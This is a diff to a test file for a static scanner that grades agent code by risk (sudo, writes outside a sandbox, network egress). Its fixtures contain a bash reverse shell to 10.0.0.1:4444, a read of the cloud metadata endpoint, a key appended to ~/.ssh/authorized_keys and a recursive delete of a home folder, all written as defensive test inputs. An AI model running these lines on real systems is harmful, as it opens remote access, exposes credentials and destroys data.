@@ -1593,9 +1593,11 @@ mkdir -p /tmp/job/cache
 sudo mkdir -p /etc/tool
 `;
     expect(await check('.github/scripts/install-tools.sh', sh)).toEqual(['4 shell-sudo low', '4 file-outside-sandbox low', '5 file-outside-sandbox low', '6 shell-sudo low', '6 file-outside-sandbox low']);
-    // elsewhere: writing system configuration keeps its grade; a fixed directory of the program's own under /opt is
-    // low with no sandbox configured, and so is sudo of a command written out in full (later rounds' rules)
-    expect(await check('deploy/install-tools.sh', sh)).toEqual(['4 shell-sudo low', '4 file-outside-sandbox low', '5 file-outside-sandbox low', '6 shell-sudo low', '6 file-outside-sandbox high']);
+    // elsewhere: a fixed directory of the program's own under /opt is low with no sandbox configured, and so is sudo of
+    // a command written out in full and (since round 54) a shell script making a fixed system folder (later rounds'
+    // rules); an account's keys keep their grade
+    expect(await check('deploy/install-tools.sh', sh)).toEqual(['4 shell-sudo low', '4 file-outside-sandbox low', '5 file-outside-sandbox low', '6 shell-sudo low', '6 file-outside-sandbox low']);
+    expect(await check('deploy/install-tools.sh', sh.replace('sudo mkdir -p /etc/tool', 'sudo mkdir -p ~/.ssh/tool'))).toContain('6 file-outside-sandbox high');
     expect(await check('deploy/install-tools.sh', sh.replace('sudo mkdir -p /etc/tool', 'sudo mkdir -p "$1"'))).toContain('6 shell-sudo medium');
   });
 });
@@ -2222,7 +2224,7 @@ class NL2SQLTool(BaseTool):
 });
 
 describe('agent code not used for tuning, after the eighth round: fixed locations outside the project with no sandbox configured', () => {
-  it("a fixed location of the program's own is low; credentials, login files, system configuration and deletes keep their grade; a configured sandbox keeps every grade (Python)", async () => {
+  it("a fixed location of the program's own is low (since round 54 also a folder of its own it deletes); credentials, login files and system configuration keep their grade; a configured sandbox keeps every grade (Python)", async () => {
     // the shape of SWE-agent's tool scripts, which keep their state in the container's /root
     const src = `import json
 import os
@@ -2246,7 +2248,7 @@ open(f"/root/{os.environ['NAME']}", "w").write("x")
       '10 file-outside-sandbox medium',
       '11 file-outside-sandbox high',
       '12 file-outside-sandbox high',
-      '13 file-outside-sandbox high',
+      '13 file-outside-sandbox low',
       '14 file-outside-sandbox high',
     ]);
     const config = resolveConfigObject({ sandbox: { roots: ['./workspace'] } }, '/p', '/p/agentos.config.yaml');
@@ -2361,7 +2363,7 @@ PORT=$2
 (echo -n > /dev/tcp/$HOST/$PORT) >/dev/null 2>&1
 cat < /dev/tcp/169.254.169.254/80
 bash -i >& /dev/tcp/10.0.0.1/4444 0>&1
-echo ok > /etc/motd
+echo ok >> ~/.bashrc
 `;
     expect(await check('wait-for-it.sh', src)).toEqual(['5 egress-not-allowlisted high', '6 egress-not-allowlisted medium', '7 file-outside-sandbox high']);
   });
@@ -6166,5 +6168,35 @@ def ${name}(image: str, code: str):
     expect((await check('app/deploy/images.py', helper('pull_image'))).filter((f) => f.includes('subprocess-shell'))).toEqual(['4 subprocess-shell low', '5 subprocess-shell medium']);
     expect((await check('app/tools/sandbox.py', helper('pull_image'))).filter((f) => f.includes('subprocess-shell'))).toEqual(['4 subprocess-shell medium', '5 subprocess-shell medium']);
     expect((await check('app/deploy/images.py', helper('run_in_terminal'))).filter((f) => f.includes('subprocess-shell'))).toEqual(['4 subprocess-shell medium', '5 subprocess-shell medium']);
+  });
+});
+
+describe('agent code not used for tuning, fifty-fourth round: fixed places outside the project', () => {
+  it('a fixed file of the program\'s own that it deletes is low; a person\'s folder under a home directory keeps its grade (Python)', async () => {
+    // the shapes of agent-zero's self-updater (its trigger file) and anything-llm's interface service (its models.json)
+    const py = `import os, shutil
+
+def finish_update():
+    os.remove("/exe/a0-self-update.yaml")
+    os.unlink("/home/agent/.pi/agent/models.json")
+    shutil.rmtree("/home/agent/Documents")
+`;
+    expect((await check('app/updater.py', py)).filter((f) => f.includes('file-outside'))).toEqual(['4 file-outside-sandbox low', '5 file-outside-sandbox low', '6 file-outside-sandbox high']);
+  });
+
+  it('a shell script writing a fixed system location configures the machine it runs on (low); an account\'s keys keep their grade (shell)', async () => {
+    // the shapes of OmniParser's VM container scripts and mcp-shrimp-task-manager's service installer
+    const sh = `#!/bin/bash
+echo "[global]" > /etc/samba/smb.conf
+cp viewer.service /etc/systemd/system/viewer.service
+rm -f /etc/systemd/system/old.service
+echo "$KEY" >> ~/.ssh/authorized_keys
+`;
+    expect((await check('tools/viewer/install-service.sh', sh)).filter((f) => f.includes('file-outside'))).toEqual([
+      '2 file-outside-sandbox low',
+      '3 file-outside-sandbox low',
+      '4 file-outside-sandbox low',
+      '5 file-outside-sandbox high',
+    ]);
   });
 });
